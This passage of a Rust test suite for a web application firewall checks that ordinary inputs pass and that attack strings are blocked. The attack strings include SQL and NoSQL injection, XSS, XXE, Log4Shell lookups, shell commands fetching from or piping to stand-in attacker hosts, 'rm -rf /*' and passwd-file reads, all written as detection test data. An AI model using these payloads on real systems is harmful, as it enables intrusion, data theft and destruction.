    let dax = "EVALUATE\nSUMMARIZECOLUMNS(\n    'Date'[Year],\n    FILTER(ALL('Region'[Country]), 'Region'[Country] IN {\"Germany\", \"Côte d'Ivoire\"}),\n    \"Total Sales\", [Total Sales]\n)\nORDER BY 'Date'[Year] DESC, [Total Sales] DESC";
    let o = json_post(&waf, &serde_json::json!({ "query": dax }).to_string());
    assert!(!o.blocked, "{o:?}");
    for q in ["1'[0] union select password from users--", "x'[a]; drop table users--", "admin'[x] or 1=1--"] {
        for o in as_field_and_query(&waf, q) {
            assert!(o.blocked, "{q}: {o:?}");
        }
    }
}

#[test]
fn a_semicolon_quoted_alone_is_a_delimiter_not_a_statements_end() {
    let waf = waf_with("{}");
    // Cypher's `LOAD CSV … FIELDTERMINATOR ';'` (holdout65): the string holds the delimiter, and
    // the CREATE inside the subquery is part of one statement (4203 weak).
    let cypher = "LOAD CSV WITH HEADERS FROM 'file:///imports/flights.csv' AS line FIELDTERMINATOR ';'\nCALL {\n  WITH line\n  MATCH (a:Airport {iata: line.origin}), (b:Airport {iata: line.dest})\n  CREATE (a)-[:FLIGHT {no: line.flight_no}]->(b)\n} IN TRANSACTIONS OF 10000 ROWS";
    let o = json_post(&waf, &serde_json::json!({ "statement": cypher }).to_string());
    assert!(!o.blocked, "{o:?}");
    for q in ["admin';' drop table users--", "1'; drop table users--", "x' ;select pg_sleep(5)--"] {
        for o in as_field_and_query(&waf, q) {
            assert!(o.blocked, "{q}: {o:?}");
        }
    }
}

#[test]
fn holdout68_to_70_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    // Jinja's `namespace(…)` called in a statement (a Home Assistant blueprint), Lua's length
    // compared (`(#coins==0)`, PICO-8), a method named `import` (JXA's `ObjC.import`), SageMath's
    // generators `R.<x,y,z>`, a metric named `system.load.1` (Datadog).
    for v in [
        "{% set ns = namespace(low=[]) %}\n{% for s in states.sensor %}{% set ns.low = ns.low + [s.name] %}{% endfor %}\n{{ ns.low | join(', ') }}",
        "function _update()\n  if (#coins==0) then sfx(3) end\n  if btnp(4) and p.on then p.dy=-3 end\nend",
        "ObjC.import(\"Foundation\");\nconst app = Application.currentApplication();",
        "R.<x,y,z> = PolynomialRing(QQ, order='lex')\nI = R.ideal([x^2 + y^2 - 1])",
        "avg:system.load.1{env:staging,role:worker} by {host}",
        // A Maxima comment that opens a line and is closed (weak whatever the language).
        "data: read_matrix(\"/mnt/data/cooling.csv\", ',')$\n/* Newton cooling: T(t) = Ta + (T0 - Ta)*exp(-k*t) */\nload(lsquares)$",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    }
    // A program's path alone in a document's field: a pod's command, a launchd job's program.
    let pod =
        r#"{"spec": {"containers": [{"command": ["/bin/sh", "-c", "echo ready"], "shell": "/usr/local/bin/bash"}]}}"#;
    assert!(!json_post(&waf, pod).blocked);
    let plist = "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>ProgramArguments</key><array><string>/usr/bin/rsync</string><string>-a</string></array></dict></plist>";
    assert!(!post("/api/jobs", "application/xml", plist, &waf).blocked);
    // Sentry's envelope is a known media type.
    let envelope = "{\"event_id\":\"9ec79c33ec9942ab8353589fcb2e04dc\"}\n{\"type\":\"session\"}\n{\"sid\":\"a\",\"status\":\"ok\"}\n";
    assert!(!post("/api/42/envelope/", "application/x-sentry-envelope", envelope, &waf).blocked);
    // What the same rules are for still counts.
    for v in [
        "{% set x = namespace.__init__.__globals__.os.popen('id').read() %}",
        "{% set x = namespace %}{{ x }}",
        "(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())",
        "(#a='x')",
        "import('//evil.example/x.js')",
        "x;import(\"//evil.example/x.js\")",
        "<x,y onmouseover=alert(1)>hover</x,y>",
        "<svg/onload=alert(1)>",
        "<iframe src=//evil.example>",
        "System.exit(0)",
        "System.load(\"/tmp/x.so\")",
        "notes\nrm -rf /*",
        "a\n/* c */ cat /e??/p?ss?d",
        "a\n/* c */\ncat /e??/p?ss?d",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(o.blocked, "{v}: {o:?}");
        }
    }
    // A program's path in an argument is the probe it looks like; with a separator or arguments
    // in a document it counts too.
    assert!(form_post(&waf, "cmd=%2Fbin%2Fab").blocked);
    assert!(outcome(&waf, "/run?cmd=%2Fbin%2Fsh").blocked);
    for v in [";/bin/sh", "x | /usr/bin/nc 10.0.0.1 4444", "/bin/sh -i"] {
        assert!(json_post(&waf, &serde_json::json!({ "shell": v }).to_string()).blocked, "{v}");
    }
}

#[test]
fn holdout71_to_73_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    // Form controls alone (an accessibility report's snippets, a component's button), a robot
    // world's XML with its `<link>` and `<include>`, relative includes beside backslashes.
    for v in [
        "<input type=\"text\" name=\"postcode\" placeholder=\"postcode\">",
        "Fix: <button type=\"button\" aria-expanded=\"false\" aria-controls=\"help-text\">Help</button>",
        "<label for=\"phone\">Phone</label> <input id=\"phone\" name=\"phone\" type=\"tel\" aria-describedby=\"phone-hint\">",
        "<?xml version=\"1.0\" ?>\n<sdf version=\"1.9\">\n  <world name=\"aisle\">\n    <include>\n      <uri>https://fuel.example/models/Ground Plane</uri>\n    </include>\n    <model name=\"shelf\"><link name=\"body\"><pose>0 0 0 0 0 0</pose></link></model>\n  </world>\n</sdf>",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    }
    // Illustrator's SVG export (a generator comment before the root, a style sheet of the
    // drawing's own classes), and two icons in one upload: documents that cannot act, one piece of
    // evidence however many.
    let illustrator = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!-- Generator: Adobe Illustrator 28.3.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->\n<svg version=\"1.1\" id=\"Layer_1\" xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" x=\"0px\" y=\"0px\"\n\t viewBox=\"0 0 32 32\" style=\"enable-background:new 0 0 32 32;\" xml:space=\"preserve\">\n<style type=\"text/css\">\n\t.st0{fill:none;stroke:#1F2937;stroke-width:2;stroke-miterlimit:10;}\n</style>\n<circle class=\"st0\" cx=\"14\" cy=\"14\" r=\"9\"/>\n<line class=\"st0\" x1=\"20.5\" y1=\"20.5\" x2=\"28\" y2=\"28\"/>\n</svg>\n";
    assert!(context::inert_svg(illustrator.to_ascii_lowercase().as_bytes()));
    assert!(!json_post(&waf, &serde_json::json!({ "svg": illustrator }).to_string()).blocked);
    let heart = "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 24 24\"><path fill=\"currentColor\" d=\"M12 21.35l-1.45-1.32C5.4 15.36 2 12.28 2 8.5z\"/></svg>";
    let upload = format!(
        "--B\r\nContent-Disposition: form-data; name=\"files\"; filename=\"heart.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n{heart}\r\n--B\r\nContent-Disposition: form-data; name=\"files\"; filename=\"search.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n{illustrator}\r\n--B--\r\n"
    );
    let o = post("/icons", "multipart/form-data; boundary=B", &upload, &waf);
    assert!(!o.blocked, "{o:?}");
    // A sheet that styles more than the drawing, loads, or hides behind a comment is no drawing's.
    for (from, to) in [
        (".st0{fill:none;", "body{display:none} .st0{fill:none;"),
        (".st0{fill:none;", "@import url(//evil.example/x.css); .st0{fill:none;"),
        (".st0{fill:none;", ".st0{background:url(//evil.example/t.png);fill:none;"),
        (".st0{fill:none;", ".other{fill:none;"),
        ("<!-- Generator", "<script>alert(1)</script><!-- Generator"),
    ] {
        let bad = illustrator.replacen(from, to, 1);
        assert!(!context::inert_svg(bad.to_ascii_lowercase().as_bytes()), "{bad}");
    }
    for file in [
        "#include <std.h>\n#include \"../emberfell.h\"\n\nvoid create() {\n    write(\"The forge roars.\\n\");\n}\n",
        "services:\n    App\\:\n        resource: '../src/'\n        exclude:\n            - '../src/Entity/'\n",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "content": file }).to_string());
        assert!(!o.blocked, "{file}: {o:?}");
    }
    for v in [
        "<input autofocus onfocus=alert(1)>",
        "<input type=image src=x onerror=alert(1)>",
        "<button form=f formaction=javascript:alert(1)>go</button>",
        "<form action=//evil.example/steal><input name=password type=password></form>",
        "<input/onfocus=alert(1)/autofocus>",
        "<button formaction=\"https://evil.example/\">go</button>",
        "<input autofocus>",
        "<?xml version=\"1.0\"?><r><link rel=\"stylesheet\" href=\"//evil.example/x.css\"/><script>alert(1)</script></r>",
        "<?xml version=\"1.0\"?><r><body onload=\"alert(1)\">x</body></r>",
        "notes\n..\\..\\boot.ini",
        "notes\n../..\\windows\\win.ini",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(o.blocked, "{v}: {o:?}");
        }
    }
}

#[test]
fn a_number_after_a_spaced_parenthesis_is_no_php_argument() {
    let waf = waf_with("{}");
    // A browser's second download of a file, a dated note, a count: English, not PHP calls.
    for v in [
        "Rental agreement file (2).pdf",
        "rights: oral history file (2025-06-14), consent signed",
        "scan copy (3) attached",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    }
    // Calls with what these functions act on still read as PHP, spaced or not, and a number is
    // still an argument without the space.
    for v in [
        "system ('id')",
        "file ('/etc/passwd')",
        "include ($_GET['p'])",
        "system (chr (105).chr (100))",
        "readfile (chr(47).'etc/passwd')",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(o.blocked, "{v}: {o:?}");
        }
    }
}

#[test]
fn holdout74_to_76_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let fires = |o: &Outcome, id: u32| o.matches.iter().any(|m| m.rule_id == id);
    // A possessive in an uploaded file's name; an apostrophe inside a word is still odd.
    let upload = |filename: &str| {
        format!(
            "--B\r\nContent-Disposition: form-data; name=\"guest_file\"; filename=\"{filename}\"\r\nContent-Type: text/csv\r\n\r\nFirst name,Last name\r\nAoife,O'Sullivan\r\n--B--\r\n"
        )
    };
    let o = post(
        "/guests/import",
        "multipart/form-data; boundary=B",
        &upload("Guest list FINAL v3 (Mum's edits).csv"),
        &waf,
    );
    assert!(!o.blocked, "{o:?}");
    let o = post("/guests/import", "multipart/form-data; boundary=B", &upload("te'st.txt"), &waf);
    assert!(fires(&o, 1011), "{o:?}");
    // A wiki edit summary naming its section inside the line; globs and commands still count.
    let o = post(
        "/w/api.php",
        "application/x-www-form-urlencoded",
        "action=edit&title=Orders+API&summary=Endpoints+table+%2B+example+%2F%2A+Endpoints+%2A%2F",
        &waf,
    );
    assert!(!o.blocked, "{o:?}");
    // GraphQL's multipart upload (`operations`, `map`), a MIME type's charset, an interval open
    // at one end, a Go template's variables, a traceback's elided frame path.
    let traceback = "why does this crash?\n\nTraceback (most recent call last):\n  File \"/Users/kemi/proj/report.py\", line 4, in <module>\n    monthly = df.groupby(df['date'].dt.month)['amount'].sum()\n  File \".../pandas/core/generic.py\", line 6204, in __getattr__\n    return object.__getattribute__(self, name)\nAttributeError: Can only use .dt accessor with datetimelike values";
    for v in [
        "{\"query\":\"mutation ($file: Upload!) { attachInvoice(file: $file) { id } }\",\"variables\":{\"file\":null}}",
        "{\"0\":[\"variables.file\"]}",
        "[{\"type\": \"file\", \"name\": \"invoice.csv\"}]",
        "2020-01-01T00:00:00Z/..",
        "../2024-12-31",
        "{{ $type := .Get \"type\" | default \"note\" }}\n<div class=\"callout callout--{{ $type }}\">{{ index $icons $type }}</div>",
        traceback,
        "{\"amount\": \"{{jsonPath request.body '$.amount.value'}}\", \"currency\": \"{{jsonPath request.body '$.amount.currency'}}\"}",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    }
    let o =
        json_post(&waf, &serde_json::json!({ "headers": { "Content-Type": "text/xml; charset=utf-8" } }).to_string());
    assert!(o.matches.is_empty(), "{o:?}");
    // XML documents of their own vocabulary: a DOCTYPE that only names its DTD, attributes named
    // `on…` that name no browser event; a Hugo configuration.
    let musicxml = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE score-partwise PUBLIC \"-//Recordare//DTD MusicXML 4.0 Partwise//EN\" \"http://www.musicxml.org/dtds/partwise.dtd\">\n<score-partwise version=\"4.0\">\n  <part-list><score-part id=\"P1\"><part-name>Trumpet 1</part-name></score-part></part-list>\n  <part id=\"P1\"><measure number=\"1\"><note><pitch><step>B</step><octave>4</octave></pitch><duration>2</duration></note></measure></part>\n</score-partwise>\n";
    let liquibase = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<databaseChangeLog xmlns=\"http://www.liquibase.org/xml/ns/dbchangelog\">\n  <changeSet id=\"1\" author=\"anna\">\n    <preConditions onFail=\"MARK_RAN\"><not><tableExists tableName=\"invoice\"/></not></preConditions>\n    <createTable tableName=\"invoice\"><column name=\"id\" type=\"BIGINT\"/></createTable>\n  </changeSet>\n</databaseChangeLog>\n";
    let hugo = "baseURL = \"https://lighthouse-notes.example/\"\nlanguageCode = \"en-us\"\ntitle = \"Lighthouse Notes\"\n\n[markup.highlight]\n  style = \"dracula\"\n  lineNos = false\n\n[params]\n  description = \"Notes on the web — Aarhus & Lisbon\"\n\n[[menu.main]]\n  name = \"Archive\"\n  url = \"/archives/\"\n";
    for doc in [musicxml, liquibase, hugo] {
        let o = json_post(&waf, &serde_json::json!({ "content": doc }).to_string());
        assert!(!o.blocked, "{doc}: {o:?}");
        let lower = doc.to_ascii_lowercase();
        assert!(context::own_vocabulary(lower.as_bytes()) || doc == hugo, "{doc}");
    }
    for bad in [
        liquibase.replace("onFail=\"MARK_RAN\"", "onClick=\"alert(1)\""),
        musicxml.replace(
            "\"http://www.musicxml.org/dtds/partwise.dtd\">",
            "\"x.dtd\" [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        ),
        musicxml.replace(
            "<score-partwise version=\"4.0\">\n",
            "<score-partwise version=\"4.0\">\n<!DOCTYPE x PUBLIC \"a\" \"b\">\n",
        ),
    ] {
        assert!(!context::own_vocabulary(bad.to_ascii_lowercase().as_bytes()), "{bad}");
    }
    for v in [
        hugo.replace("lineNos = false", "lineNos = false\n  onmouseover = \"alert(1)\""),
        hugo.replace("title = \"Lighthouse Notes\"", "title = \"<script>alert(1)</script>\""),
        "rm -rf /* && echo done".to_string(),
        "cat /e??/p?ss?d".to_string(),
        "(\"system\")(\"whoami\")".to_string(),
        "(['system'])[0]('uname');".to_string(),
        "<?php include\"/etc/passwd\"; ?>".to_string(),
        "{\"user\": {\"$ne\": null}, \"password\": {\"$ne\": null}}".to_string(),
        "{\"$where\": \"sleep(5000) || true\"}".to_string(),
        "2020-01-01/../../etc/passwd".to_string(),
        "{{ request['application'] }}".to_string(),
        "{{ request.body ~ request.application }}".to_string(),
        "{{request.body'x'}}{{ request|attr('application') }}".to_string(),
        traceback.replace("Can only use", "see ../../../etc/passwd; Can only use"),
    ] {
        for o in as_field_and_query(&waf, &v) {
            assert!(o.blocked, "{v}: {o:?}");
        }
    }
    let o = outcome(&waf, "/login?user[$ne]=admin&password[$ne]=x");
    assert!(o.blocked, "{o:?}");
}

#[test]
fn holdout77_to_79_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let fires = |o: &Outcome, id: u32| o.matches.iter().any(|m| m.rule_id == id);
    // An IAM policy's variables and a connector's secret reference: `${name:word}` expands to no
    // more than `$name` in a shell and parses as no PHP.
    let policy = serde_json::json!({
        "Version": "2012-10-17",
        "Statement": [{
            "Effect": "Allow",
            "Action": ["ec2:StartInstances", "ec2:StopInstances"],
            "Resource": "arn:aws:ec2:*:*:instance/*",
            "Condition": {"StringLike": {"ec2:ResourceTag/Owner": "${aws:username}"}}
        }]
    });
    assert!(!json_post(&waf, &policy.to_string()).blocked);
    for v in ["${aws:username}", "${vault:secret/data/cdc/orders:password}"] {
        for o in as_field_and_query(&waf, v) {
            assert!(!fires(&o, 3201) && !fires(&o, 3305), "{v}: {o:?}");
        }
    }
    // A robots.txt file's patterns; a program's pause.
    let robots = "# robots.txt\nUser-agent: *\nDisallow: /checkout/\nDisallow: /search?\nDisallow: /*?sessionid=\nAllow: /search?q=$\n\nUser-agent: GPTBot\nDisallow: /\nCrawl-delay: 5\nSitemap: https://www.example-travel.example/sitemap_index.xml\n";
    let firmware = "import time, machine\nled = machine.Pin(\"LED\", machine.Pin.OUT)\nwhile True:\n    led.toggle()\n    time.sleep(300)\n";
    for doc in [robots, firmware] {
        let o = json_post(&waf, &serde_json::json!({ "content": doc }).to_string());
        assert!(!o.blocked, "{doc}: {o:?}");
    }
    assert!(context::robots_rules(robots.to_ascii_lowercase().as_bytes()));
    // What still counts: a number for an offset or a length, an address after the name, a glob
    // outside a robots file, `sleep(` called on nothing or after a concatenating dot.
    for (v, id) in [
        ("cat${PATH:0:1}etc${PATH:0:1}passwd", 3201),
        ("x=${PATH:a:1}", 3201),
        ("${jndi:ldap://evil.example/a}", 3201),
        ("${system('id')}", 3305),
        ("cat /e??/p?ss?d", 3205),
        ("1 and sleep(5)", 4204),
        ("file:/init.ini'.sleep(12).'", 4204),
        ("1;select pg_catalog.pg_sleep(5)", 4204),
        ("1 and benchmark(5000000,md5(1))", 4204),
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(fires(&o, id), "{v}: {o:?}");
        }
    }
    let o = json_post(
        &waf,
        &serde_json::json!({ "content": robots.replace("Crawl-delay: 5", "cat /e??/p?ss?d") }).to_string(),
    );
    assert!(fires(&o, 3205), "{o:?}");
}

/// A gzip member (RFC 1952) of `data` in base64, as GitHub's code-scanning upload or a JSF view
/// state carries one: header without flags, deflate, then CRC-32 and size (not checked here).
fn gzip_base64(data: &[u8]) -> String {
    use base64::Engine as _;
    let mut member = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    member.extend(miniz_oxide::deflate::compress_to_vec(data, 6));
    member.extend([0; 4]);
    member.extend((data.len() as u32).to_le_bytes());
    base64::engine::general_purpose::STANDARD.encode(member)
}

#[test]
fn holdout80_to_82_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let fires = |o: &Outcome, id: u32| o.matches.iter().any(|m| m.rule_id == id && m.score > 0);
    // A gzipped SARIF log (GitHub's code-scanning API takes it so) and a package tarball's
    // gzip (npm's publish): gzip streams that hold no Java serialization stream.
    let sarif = gzip_base64(br#"{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"CodeQL"}},"results":[]}]}"#);
    assert!(sarif.starts_with("H4sIAAAAA"), "{sarif}");
    let o = json_post(
        &waf,
        &serde_json::json!({ "commit_sha": "4b6472266afd7b471e86085a6659e8c7f2b119da", "sarif": sarif }).to_string(),
    );
    assert!(!o.blocked && !fires(&o, 4402), "{o:?}");
    assert!(context::gzip_streams_not_java(sarif.as_bytes(), sarif.to_ascii_lowercase().as_bytes()));
    // An Elasticsearch wildcard and a log filter: a name prefix at the root globs nothing a
    // request could want; a plural's `(s)` in a job's log is no PHP call.
    for body in [
        serde_json::json!({"query": {"bool": {"must_not": [{"wildcard": {"url.path": "/health*"}}]}}}),
        serde_json::json!({"query": "service.name : checkout and not url.path : /health* "}),
        serde_json::json!({"log": "[02:34:48Z] $ find /backup -name 'app-*.dump' -mtime +14 -delete\n[02:34:48Z] removed 1 file(s)\n"}),
    ] {
        let o = json_post(&waf, &body.to_string());
        assert!(!o.blocked, "{body}: {o:?}");
    }
    for v in ["/health*", "paths: /api*, /static*", "url.path : /health* "] {
        assert!(context::root_name_prefixes(v.as_bytes()), "{v}");
    }
    // What still counts: a Java stream gzipped, one cut too short to tell, the plain prefixes;
    // globs into a directory or spelling one; a call with an argument.
    let mut gadget = vec![0xac, 0xed, 0x00, 0x05, 0x73, 0x72, 0x00, 0x11];
    gadget.extend_from_slice(
        b"java.util.HashMap\x05\x07\xda\xc1\xc3\x16\x60\xd1\x03\x00\x02F\x00\x0aloadFactorI\x00\x09threshold",
    );
    let java = gzip_base64(&gadget);
    for v in [java.as_str(), "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"] {
        for o in as_field_and_query(&waf, v) {
            assert!(fires(&o, 4402) && o.blocked, "{v}: {o:?}");
        }
    }
    let spelled_otherwise = java.replacen("H4sI", "h4sI", 1);
    let no_deflate = "H4sIAAAAAAAA/////////w";
    let two = format!("{sarif} {sarif}");
    assert!(context::gzip_streams_not_java(two.as_bytes(), two.to_ascii_lowercase().as_bytes()));
    let many = [sarif.as_str(); 9].join(" ");
    for v in [java.as_str(), &java[..24], &spelled_otherwise, no_deflate, &format!("{sarif} {java}"), &many] {
        assert!(!context::gzip_streams_not_java(v.as_bytes(), v.to_ascii_lowercase().as_bytes()), "{v}");
    }
    for (v, id) in [
        ("cat /e??/p?ss?d", 3205),
        ("cat /etc/pas*", 3211),
        ("cat /flag*", 3205),
        ("ls /usr*/bin", 3205),
        ("; /???/??t /etc/passwd", 3205),
        ("file($_GET['f'])", 3301),
        ("file('/etc/passwd')", 3301),
        ("system(sh)", 3301),
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(fires(&o, id), "{v}: {o:?}");
        }
    }
    for v in ["/e??/p?ss?d", "/etc/pas*", "/usr*/bin", "/health*.log", "/ab*", "cat /flag*", "x; ls /home*"] {
        assert!(!context::root_name_prefixes(v.as_bytes()), "{v}");
    }
}

#[test]
fn holdout83_to_85_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let fires = |o: &Outcome, id: u32| o.matches.iter().any(|m| m.rule_id == id && m.score >= 5);
    // A translation's rich-text placeholder (react-i18next, FormatJS) and a quiz's TeX maths.
    for body in [
        serde_json::json!({"key": "checkout.terms", "value": "By placing your order you agree to our <link>Terms & Conditions</link>."}),
        serde_json::json!({"feedback": {"correct": "Nice! $(x-2)(x-3)=0$.", "incorrect": "Which two numbers multiply to $6$ and add to $-5$?"}}),
        serde_json::json!({"quiz": "A fair die is rolled twice. What is $P(\\text{sum} = 7)$?\n- [x] $\\frac{1}{6}$\n> $6 \\times 6 = 36$, so $p(x) = 1/6$."}),
    ] {
        let o = json_post(&waf, &body.to_string());
        assert!(!o.blocked, "{body}: {o:?}");
    }
    for v in ["Nice! $(x-2)(x-3)=0$.", "What is $P(\\text{sum} = 7)$?", "$$f(x)=x^2-4x$$, find $$f'(3)$$"] {
        assert!(context::tex_math(v.as_bytes()), "{v}");
    }
    for v in ["$(id)$", "$(sleep 5)$", "$f(101).$f(120)", "$(($() 42))", "$(\\id)$", "$ (x)$", "$(x)$ `id`", "$(x);id$"]
    {
        assert!(!context::tex_math(v.as_bytes()), "{v}");
    }
    // What still counts: void elements with attributes, command substitution and PHP variable
    // calls outside maths.
    for (v, id) in [
        ("<link rel=\"stylesheet\" href=\"//evil.example/x.css\">", 4104),
        ("<meta http-equiv=\"refresh\" content=\"0;url=//evil.example/\">", 4104),
        ("<base href=\"//evil.example/\">", 4104),
        ("$(id)", 3201),
        ("x=$(curl -s evil.example/a.sh)", 3201),
        ("$f(101).$f(120)", 3305),
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(fires(&o, id) && o.blocked, "{v}: {o:?}");
        }
    }
}

#[test]
fn an_odata_batch_passes_and_an_attack_in_any_of_its_requests_is_caught_and_named() {
    // Holdouts 8 and 85: OData `$batch` bodies (`multipart/mixed` of `application/http` parts)
    // were refused as a media type outside the list, and read whole they look like a split
    // response (1006). Each embedded request is now inspected as a request.
    let waf = waf_with("{}");
    let batch = |inner: &str| {
        format!(
            "--b1\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\n{inner}\r\n--b1--\r\n"
        )
    };
    let ct = "multipart/mixed; boundary=b1";
    let ok =
        batch("GET A_SalesOrder('4969')?$select=SalesOrder,TotalNetAmount HTTP/1.1\r\nAccept: application/json\r\n");
    let o = post("/sap/opu/odata/sap/API_SALES_ORDER_SRV/$batch", ct, &ok, &waf);
    assert!(!o.blocked && o.matches.is_empty(), "{o:?}");
    let named = |o: &Outcome, target: &str| o.blocked && o.matches.iter().any(|m| m.target == target);
    let o = post(
        "/odata/$batch",
        ct,
        &batch("GET Products?$filter=Name%20eq%20'a'%20union%20select%20pwd%20from%20users-- HTTP/1.1\r\n"),
        &waf,
    );
    assert!(named(&o, "batch_args:$filter") && blocked_category(&o, Category::Sqli), "{o:?}");
    let o = post("/odata/$batch", ct, &batch("GET ../../etc/passwd HTTP/1.1\r\n"), &waf);
    assert!(named(&o, "batch_path"), "{o:?}");
    let o =
        post("/odata/$batch", ct, &batch("GET Products HTTP/1.1\r\nX-Note: ${jndi:ldap://198.51.100.7/a}\r\n"), &waf);
    assert!(named(&o, "batch_header:X-Note"), "{o:?}");
    let json = "POST Notes HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"text\":\"<script>alert(1)</script>\"}";
    let o = post("/odata/$batch", ct, &batch(json), &waf);
    assert!(named(&o, "json:$.text") && blocked_category(&o, Category::Xss), "{o:?}");
    // Content the part does not declare as a request, or hides in base64, still counts.
    let o = post(
        "/odata/$batch",
        ct,
        "--b1\r\nContent-Type: text/plain\r\n\r\nok\r\nSet-Cookie: sid=1\r\n--b1--\r\n",
        &waf,
    );
    assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 1006), "{o:?}");
    let o = post(
        "/odata/$batch",
        ct,
        "--b1\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: base64\r\n\r\nR0VUIC8=\r\n--b1--\r\n",
        &waf,
    );
    assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 1011), "{o:?}");
    // Another multipart subtype is still outside the list.
    let o = post("/odata/$batch", "multipart/foo; boundary=b1", &ok, &waf);
    assert!(o.matches.iter().any(|m| m.rule_id == 1010), "{o:?}");
}

#[test]
fn holdout86_to_88_classes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);

    // `DROP` and `CREATE` before an English word are no statements (4203); before what SQL
    // drops or creates, alone at the end, or before a comment, they still are.
    for t in [
        "7 pendants, smoky amber → clear gradient; drop heights 1.2m-2.4m. Budget ~£4,500",
        "Forgot my password; create a new one for me please",
        "Rain forecast (drop in temperature) — bring layers",
    ] {
        for o in as_field_and_query(&waf, t) {
            assert!(!o.blocked && rule(&o, 4203).is_none(), "{t}: {o:?}");
        }
    }
    for q in [
        "1; drop table users",
        "1;DROP/**/TABLE users",
        "x'; drop database shop--",
        "pay=;drop",
        "1); create user eve identified by 'x'--",
        "x'; create or replace function f() returns int as $$ select 1 $$ language sql--",
        "1; drop if exists t",
    ] {
        for o in as_field_and_query(&waf, q) {
            assert!(o.blocked && rule(&o, 4203) == Some(5), "{q}: {o:?}");
        }
    }

    // A CSV row of ISO timestamps (`2024-06-11T05:00:00Z,…`) in an uploaded file is no header
    // line (1006): a header's name opens with a letter. An injected header still counts.
    let csv = "timestamp,hive,weight_kg\r\n2024-06-11T05:00:00Z,H-01,48.32\r\n2024-06-11T11:00:00Z,H-01,48.95\r\n";
    let upload = format!(
        "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"scales.csv\"\r\nContent-Type: text/csv\r\n\r\n{csv}\r\n--b--\r\n"
    );
    let o = post("/hives/api/weights/import", "multipart/form-data; boundary=b", &upload, &waf);
    assert!(!o.blocked && rule(&o, 1006).is_none(), "{o:?}");
    for v in
        ["x\r\nSet-Cookie: sid=1", "2024-06-11\r\nLocation: https://evil.example/", "a\r\nX-Forwarded-For: 10.0.0.1"]
    {
        let o = json_post(&waf, &serde_json::json!({ "v": v }).to_string());
        assert!(o.blocked && rule(&o, 1006).is_some(), "{v:?}: {o:?}");
    }

    // A backslash between `$` and a bracket quotes the bracket: Swift's and jq's interpolation
    // after a price (`"$\(price)"`) expands nothing in a shell (3201). `$(id)`, `\$(id)` and a
    // backslash inside the command still count.
    for t in [
        r#"[.items[] | {name, label: "\(.name) - $\(.price)"}] | sort_by(-.price)"#,
        r#"Text("Total: $\(order.total, specifier: "%.2f")")"#,
    ] {
        for o in as_field_and_query(&waf, t) {
            assert!(!o.blocked && rule(&o, 3201).is_none(), "{t}: {o:?}");
        }
    }
    for q in ["x$(id)", "a;echo $(c\\at /etc/hostname)", "${IFS}$(whoami)"] {
        for o in as_field_and_query(&waf, q) {
            assert!(o.blocked, "{q}: {o:?}");
        }
    }

    // Git's smart HTTP requests (a code host behind the gateway) are binary, like
    // `application/octet-stream`: no media type outside the list (1010).
    let fetch = "0098want 7a1b2c3d4e5f60718293a4b5c6d7e8f901234567 multi_ack_detailed side-band-64k thin-pack ofs-delta agent=git/2.45.2\n00000009done\n";
    let o = post("/acme/storefront.git/git-upload-pack", "application/x-git-upload-pack-request", fetch, &waf);
    assert!(!o.blocked && o.matches.is_empty(), "{o:?}");

    // Haskell's function types (`topK :: Int -> [String] -> …`) are no PostgreSQL casts (4212);
    // a cast followed by arithmetic or a JSON arrow on `json`/`jsonb` still is.
    let hs = "module Ex5 where\n\ntopK :: Int -> [String] -> [(String, Int)]\ntopK k ws = take k ws\n\nsafeDiv :: Integer -> Integer -> Maybe Integer\n";
    for o in as_field_and_query(&waf, hs) {
        assert!(!o.blocked && rule(&o, 4212).is_none(), "{o:?}");
    }
    for q in ["1'::int-1--", "x'||(select '{\"a\":1}'::jsonb->'a')||'", "1::text||chr(65)"] {
        for o in as_field_and_query(&waf, q) {
            assert!(o.blocked && o.matches.iter().any(|m| m.category == Category::Sqli), "{q}: {o:?}");
        }
    }

    // A database's data directory is a mount point (`Mount: /var/lib/postgresql`, a Compose
    // volume), not a file read (3001). The MySQL system schema's files and logs still are.
